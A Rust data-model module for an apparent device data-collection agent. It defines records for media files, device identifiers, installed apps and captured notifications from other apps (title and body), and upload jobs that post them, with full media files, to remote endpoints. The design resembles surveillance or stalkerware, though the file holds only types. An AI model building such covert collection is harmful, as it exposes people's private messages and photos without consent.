//! Core data models shared across the agent.
//!
//! Records describe collectible facts produced by the source enumerators.
//! Upload jobs wrap records (or batches of records) for delivery; outcomes
//! and cycle reports describe what happened to them.

use std::collections::HashMap;

use serde::{Deserialize, Serialize};

use crate::constants::{
    ENDPOINT_APPS_LIST, ENDPOINT_DEVICE_INFO, ENDPOINT_MEDIA_METADATA, ENDPOINT_MEDIA_UPLOAD,
    ENDPOINT_NOTIFICATIONS_STORE,
};

/// Current wall-clock time in milliseconds since the Unix epoch.
pub fn now_millis() -> u64 {
    chrono::Utc::now().timestamp_millis().max(0) as u64
}

/// Data source a record was enumerated from.
#[derive(Debug, Clone, Copy, PartialEq, Eq, Hash, Serialize, Deserialize)]
#[serde(rename_all = "lowercase")]
pub enum SourceKind {
    Media,
    Device,
    Apps,
    Events,
}

impl std::fmt::Display for SourceKind {
    fn fmt(&self, f: &mut std::fmt::Formatter<'_>) -> std::fmt::Result {
        match self {
            SourceKind::Media => write!(f, "media"),
            SourceKind::Device => write!(f, "device"),
            SourceKind::Apps => write!(f, "apps"),
            SourceKind::Events => write!(f, "events"),
        }
    }
}

/// Kind of a media item.
#[derive(Debug, Clone, Copy, PartialEq, Eq, Hash, Serialize, Deserialize)]
#[serde(rename_all = "lowercase")]
pub enum MediaKind {
    Image,
    Video,
}

impl MediaKind {
    /// Wire value used by the `type` discriminator on media endpoints.
    pub fn wire_name(&self) -> &'static str {
        match self {
            MediaKind::Image => "images",
            MediaKind::Video => "videos",
        }
    }
}

/// One item from the media library.
#[derive(Debug, Clone, Serialize, Deserialize)]
#[serde(rename_all = "camelCase")]
pub struct MediaRecord {
    pub id: String,
    pub display_name: String,
    pub file_path: String,
    /// Milliseconds since the Unix epoch the item was added to the library
    pub added_at: u64,
    pub size_bytes: u64,
    pub kind: MediaKind,
}

/// Descriptor of the host device. Enumerated as a singleton.
#[derive(Debug, Clone, Serialize, Deserialize)]
#[serde(rename_all = "camelCase")]
pub struct DeviceRecord {
    pub manufacturer: String,
    pub model: String,
    pub os_version: String,
    pub sdk_level: u32,
    pub device_id: String,
    pub observed_at: u64,
}

/// Whether an application ships with the platform or was user-installed.
#[derive(Debug, Clone, Copy, PartialEq, Eq, Serialize, Deserialize)]
#[serde(rename_all = "lowercase")]
pub enum AppOrigin {
    System,
    User,
}

/// One entry of the installed-application inventory.
#[derive(Debug, Clone, Serialize, Deserialize)]
pub struct AppRecord {
    pub name: String,
    pub origin: AppOrigin,
}

/// A captured notification event.
#[derive(Debug, Clone, Serialize, Deserialize)]
#[serde(rename_all = "camelCase")]
pub struct EventRecord {
    pub source_app: String,
    pub title: String,
    pub body: String,
    pub posted_at: u64,
    pub external_id: String,
}

/// Union of everything a source enumerator can yield.
///
/// Records carry no subject identity; the owning user id is attached at
/// dispatch time by the upload client, so enumerators stay identity-free.
#[derive(Debug, Clone, Serialize)]
#[serde(untagged)]
pub enum Record {
    Media(MediaRecord),
    Device(DeviceRecord),
    App(AppRecord),
    Event(EventRecord),
}

/// Encoding selected for an upload job.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum PayloadKind {
    Json,
    Multipart,
}

/// What an upload job carries to the remote endpoint.
#[derive(Debug, Clone)]
pub enum JobPayload {
    /// One media item shipped as multipart form data with its file attached
    MediaFile(MediaRecord),
    /// Metadata-only batch for one media kind, one HTTP call per cycle
    MediaMetadata {
        kind: MediaKind,
        records: Vec<MediaRecord>,
    },
    Device(DeviceRecord),
    Apps(Vec<AppRecord>),
    Event(EventRecord),
}

/// One unit of delivery work, derived from enumerated records.
///
/// Jobs are created per cycle, consumed exactly once by the upload client,
/// and never persisted across process restarts.
#[derive(Debug, Clone)]
pub struct UploadJob {
    pub source: SourceKind,
    pub payload: JobPayload,
}

impl UploadJob {
    /// Endpoint path this job posts to, relative to the base URL.
    pub fn endpoint(&self) -> &'static str {
        match &self.payload {
            JobPayload::MediaFile(_) => ENDPOINT_MEDIA_UPLOAD,
            JobPayload::MediaMetadata { .. } => ENDPOINT_MEDIA_METADATA,
            JobPayload::Device(_) => ENDPOINT_DEVICE_INFO,
            JobPayload::Apps(_) => ENDPOINT_APPS_LIST,
            JobPayload::Event(_) => ENDPOINT_NOTIFICATIONS_STORE,
        }
    }

    /// Encoding used on the wire. Only file-carrying media jobs go multipart.
    pub fn payload_kind(&self) -> PayloadKind {
        match &self.payload {
            JobPayload::MediaFile(_) => PayloadKind::Multipart,
            _ => PayloadKind::Json,
        }
    }
}

/// Terminal outcome of one delivery attempt.
#[derive(Debug, Clone, PartialEq, Eq)]
pub enum Outcome {
    /// Remote accepted the payload (2xx)
    Delivered,
    /// Remote refused the payload (4xx) or the payload itself is unusable.
    /// Terminal; callers must not retry.
    Rejected(String),
    /// Timeout, connection error or 5xx. Retryable at the caller's discretion.
    Failed(String),
}

/// Per-source slice of a cycle report.
#[derive(Debug, Clone, Copy, Default, PartialEq, Eq, Serialize)]
pub struct SourceCounts {
    pub attempted: u64,
    pub delivered: u64,
    pub rejected: u64,
    pub failed: u64,
}

/// Aggregated result of one collection cycle.
///
/// `attempted = delivered + rejected + failed` always holds; jobs abandoned
/// at the cycle deadline are folded into `failed`.
#[derive(Debug, Clone, Default, Serialize)]
pub struct CycleReport {
    pub attempted: u64,
    pub delivered: u64,
    pub rejected: u64,
    pub failed: u64,
    /// Media records shipped metadata-only because the file exceeded the
    /// attachment cap
    pub downgraded: u64,
    pub per_source: HashMap<SourceKind, SourceCounts>,
}

impl CycleReport {
    /// True when every attempted job reached a terminal state.
    pub fn is_consistent(&self) -> bool {
        self.attempted == self.delivered + self.rejected + self.failed
    }
}
